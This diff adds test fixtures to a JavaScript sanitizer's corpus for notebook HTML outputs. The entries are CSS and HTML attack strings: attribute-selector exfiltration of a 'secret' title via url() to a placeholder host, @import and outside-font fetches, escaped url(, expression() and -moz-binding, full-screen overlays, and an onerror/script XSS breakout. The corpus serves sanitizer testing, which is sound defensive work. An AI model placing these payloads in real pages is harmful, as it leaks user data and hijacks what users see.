@@ -90,6 +90,23 @@ export const corpus = [
   '<div class="toasts"><div class="toast error">Your token expired</div></div>',
   '<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:rgba(255,0,0,.3)">absolute</div>',
   '<div style="margin-top:-2000px;transform:translateY(-3000px)">moved up</div>',
+  // style sheets (kept for pandas' Styler, cleaned by css.js): exfiltration through attribute
+  // selectors + url(), @import, outside fonts, escapes, custom properties, overlays painted outside
+  // the output's box, page classes and ids; each would fetch, run or paint where it must not
+  '<style>p[title^="s"]{background:url(https://example.invalid/leak?s)}html[lang^="e"] *,body [id^="c"]{background:url(https://example.invalid/page)}</style><p title="secret">attribute exfiltration</p>',
+  '<style>@import url(https://example.invalid/x.css);@import "https://example.invalid/y.css";p{color:#b00}</style><p>import</p>',
+  '<style>@font-face{font-family:evil;src:url(https://example.invalid/f.woff2)}p{font-family:evil}</style><p>outside font</p>',
+  '<style>p{background-image:image-set("https://example.invalid/i.png" 1x);list-style:url(https://example.invalid/l.png);cursor:url(https://example.invalid/c.cur),auto}</style><p>image-set, list-style, cursor</p>',
+  '<style>p{background:\\75 rl(https://example.invalid/escaped)}</style><p>escaped url(</p>',
+  '<style>:root,p{--u:url(https://example.invalid/var)}p{background:var(--u)}</style><p>custom property</p>',
+  '<style>p{width:expression(window.__xss=1);behavior:url(x.htc);-moz-binding:url(https://example.invalid/b.xml#x)}</style><p>expression</p>',
+  '<style>div,p{position:fixed!important;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff}</style><div>fixed overlay from a style sheet</div>',
+  '<style>.overlay,.toast,.toasts,#help,#confirm,body,html,main,.cell{display:block!important;visibility:visible!important;background:red!important}</style><p>page classes and ids</p>',
+  '<style>p{margin-top:-3000px;outline:4000px solid rgba(255,0,0,.4);box-shadow:0 0 0 3000px red}</style><p>outline and shadow</p>',
+  '<svg width=20 height=20><style>@import url(https://example.invalid/svg.css);rect{fill:url(https://example.invalid/f)}</style><rect width=10 height=10 /></svg>',
+  '<style>@media all{p{background:url(https://example.invalid/m)}}@supports (display:grid){p{background:url(https://example.invalid/s)}}</style><p>media</p>',
+  '<style></style><img src=x onerror=window.__xss=1><style>p{color:red}</style></style><script>window.__xss=2</script>',
+  '<style>p{color:red}</style><table id="T_1"><tr><td id="T_1_row0_col0" class="data">styled cell</td></tr></table><style>#T_1_row0_col0{background-color:#123456;color:#fff}</style>',
   // references inside an output keep working inside it (namespaced, not removed)
   '<svg width=60 height=20><defs><linearGradient id="g1"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width=60 height=20 fill="url(#g1)"/></svg><label for="x1">label</label><a href="#g1">to gradient</a>',
 ];
